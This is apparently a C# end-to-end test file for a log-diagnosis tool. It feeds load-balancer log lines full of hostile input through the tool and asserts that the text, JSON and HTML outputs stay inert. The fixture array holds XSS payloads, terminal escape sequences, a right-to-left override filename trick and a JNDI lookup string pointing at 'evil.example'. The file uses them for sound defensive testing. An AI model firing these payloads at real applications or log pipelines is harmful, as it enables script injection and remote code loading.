using System.Globalization;
using System.Text;
using System.Text.Json;

namespace Weir.EndToEnd.Tests;

/// <summary>A log is written by whoever sends requests. None of what follows may act, wherever it is shown.</summary>
public sealed class HostileLogTests
{
    private static readonly string[] _texts =
    [
        "[bold red]markup[/]",
        "\u001b[2J\u001b]0;owned\u0007",
        "</script><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\u202etxt.exe\u202c\u200f",
        "\u009b31m\u0085\u2028",
        "%n%s${jndi:ldap://evil.example}",
        new string('A', 9_000),
    ];

    private static byte[] Log()
    {
        using var log = new MemoryStream();
        DateTimeOffset time = AlbLogs.Utc("2026-11-24T00:00:00Z");
        foreach (string text in _texts)
        {
            time = time.AddSeconds(40);
            var good = new AlbLine { Time = time };
            AlbLine bad = new AlbLine
            {
                Time = time.AddSeconds(5.001),
                Request = $"GET https://shop.example:443/{text} HTTP/1.1",
                UserAgent = text,
                TraceId = "Root=1-5f8e7a18-" + text,
            }.AsRace;
            log.Write(Encoding.UTF8.GetBytes(AlbLogs.Lines(good, bad)));
        }

        // Bytes that are no text at all, in a line that is whole.
        AlbLine raw = new AlbLine { Time = time.AddSeconds(45.001), Request = "GET https://shop.example:443/~~ HTTP/1.1" }.AsRace;
        byte[] line = Encoding.UTF8.GetBytes(AlbLogs.Lines(new AlbLine { Time = time.AddSeconds(40) }, raw));
        int at = line.AsSpan().LastIndexOf("~~"u8);
        (line[at], line[at + 1]) = (0xff, 0xc0);
        log.Write(line);
        log.Write([0x00, 0x1b, 0x5b, 0x32, 0x4a, 0xff, (byte)'\n']);
        return log.ToArray();
    }

    private static void AssertInert(string text) => Assert.All(
        text.EnumerateRunes(),
        static rune => Assert.True(
            rune.Value is '\n' || Rune.GetUnicodeCategory(rune) is not (UnicodeCategory.Control or UnicodeCategory.Format
                or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator or UnicodeCategory.Surrogate),
            $"U+{rune.Value:X4}"));

    [Fact]
    public async Task Diagnose_AHostileLog_IsInertInEveryOutput()
    {
        using var folder = new TempFolder();
        string log = folder.PathOf("hostile\u001b[31m.log");
        await File.WriteAllBytesAsync(log, Log(), TestContext.Current.CancellationToken);

        ProgramRun text = await DiagnoseRun.Of(log, "--html", folder.PathOf("page.html"), "--no-redact", "--each", folder.PathOf("each.jsonl"));
        ProgramRun json = await DiagnoseRun.Of(log, "--json");

        Assert.Equal(DiagnoseRun.Findings, text.ExitCode);
        AssertInert(text.Output);
        AssertInert(text.Errors);
        AssertInert(json.Output);
        string page = await File.ReadAllTextAsync(folder.PathOf("page.html"), TestContext.Current.CancellationToken);
        AssertInert(page);
        Assert.All((string[])["<script", "<img"], part =>
        {
            Assert.DoesNotContain(part, page, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain(part, json.Output, StringComparison.OrdinalIgnoreCase);
        });
        JsonElement report = DiagnoseRun.Checked(json, DiagnoseRun.Findings);
        Assert.Equal(1, report.GetProperty("counts").GetProperty("unreadable_lines").GetInt32());
        AssertInert(await File.ReadAllTextAsync(folder.PathOf("each.jsonl"), TestContext.Current.CancellationToken));
        Assert.Equal(_texts.Length + 1, DiagnoseRun.Each(folder.PathOf("each.jsonl")).Length);
    }
}
